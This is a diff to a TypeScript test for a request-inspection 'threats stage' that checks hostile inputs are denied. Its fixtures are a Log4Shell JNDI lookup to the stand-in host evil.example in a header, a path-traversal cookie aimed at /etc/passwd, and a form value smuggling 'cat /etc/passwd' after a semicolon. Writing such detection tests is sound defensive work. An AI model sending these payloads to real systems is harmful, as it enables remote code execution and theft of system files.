@@ -10,6 +10,7 @@ import { createRequestBody } from '../../request-body.js';
 import type { RecordedEvent, RequestContext } from '../../request-context.js';
 import type { Stage } from '../../stage.js';
 import type { Denial, Verdict } from '../../verdict.js';
+import { OWASP } from '../../../detect/rule.js';
 import { threatsStage } from './index.js';
 
 interface Shape {
@@ -95,6 +96,9 @@ describe('threats stage', () => {
   it('inspects headers, cookies, form and XML bodies', async () => {
     const header = denialOf((await inspect(stage, 'GET', '/x', { headers: { 'user-agent': '${jndi:ldap://evil.example/a}' } })).verdict);
     assert.ok(header.problems!.some((problem) => problem.location === 'header.user-agent' && problem.problem.startsWith('jndi.')));
+    // The SSRF detector also sees the ldap: URL inside; the event is about the lookup that encloses it.
+    assert.equal(header.evidence?.matched, '${jndi:ldap://evil.example/a}');
+    assert.equal(header.category, OWASP.components);
     const cookie = denialOf((await inspect(stage, 'GET', '/x', { headers: { cookie: 'session=abc; lang=../../../../etc/passwd' } })).verdict);
     assert.ok(cookie.problems!.some((problem) => problem.location === 'cookie.lang'));
     const form = denialOf((await inspect(stage, 'POST', '/ping', { body: { text: 'host=127.0.0.1%3B%20cat%20%2Fetc%2Fpasswd', contentType: 'application/x-www-form-urlencoded' } })).verdict);
